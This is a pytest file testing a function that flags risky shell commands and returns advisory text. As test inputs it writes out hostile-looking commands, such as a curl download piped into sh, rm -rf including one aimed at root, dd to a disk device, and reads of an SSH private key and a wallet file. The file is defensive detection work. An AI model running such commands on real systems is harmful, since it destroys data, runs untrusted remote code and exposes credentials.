from __future__ import annotations

import pytest

from turnwire import compute_security_advice


def test_empty_command_has_no_advice() -> None:
    assert compute_security_advice([]) is None


def test_benign_command_has_no_advice() -> None:
    assert compute_security_advice(["ls", "-la"]) is None


def test_rm_rf() -> None:
    advice = compute_security_advice(["rm", "-rf", "/tmp/x"])
    assert advice is not None
    assert "rm -rf" in advice


def test_curl_pipe_to_shell_tokens() -> None:
    advice = compute_security_advice(["curl", "http://x", "|", "sh"])
    assert advice is not None
    assert "pipeline into a shell" in advice


def test_bash_lc_pipe_to_shell() -> None:
    advice = compute_security_advice(["bash", "-lc", "curl http://x | sh"])
    assert advice is not None
    assert "pipeline into a shell" in advice


def test_bash_lc_rm_rf_body() -> None:
    assert compute_security_advice(["bash", "-lc", "cd /tmp && rm -rf build"]) == (
        "detected potentially destructive rm -rf inside bash -lc"
    )


@pytest.mark.parametrize(
    ("command", "fragment"),
    [
        (["chmod", "777", "script.sh"], "chmod 777"),
        (["dd", "if=image.iso", "of=/dev/sdb"], "dd to a device"),
        (["cat", "/home/me/.ssh/id_rsa"], "sensitive keys"),
        (["cp", "wallet.dat", "/tmp"], "sensitive keys"),
    ],
)
def test_risky_patterns(command, fragment) -> None:
    advice = compute_security_advice(command)
    assert advice is not None
    assert fragment in advice


def test_pipe_detection_ignores_case() -> None:
    assert compute_security_advice(["CURL", "http://x", "|", "SH"]) is not None


def test_other_checks_are_case_sensitive() -> None:
    # Only the pipe-to-shell check ignores case; the rest match literally.
    assert compute_security_advice(["cat", "/home/me/.SSH/ID_RSA"]) is None
    assert compute_security_advice(["rm", "-RF", "/tmp/x"]) is None
    assert compute_security_advice(["bash", "-lc", "RM -RF /"]) is None


def test_program_must_match_for_program_specific_checks() -> None:
    assert compute_security_advice(["echo", "rm", "-rf"]) is None
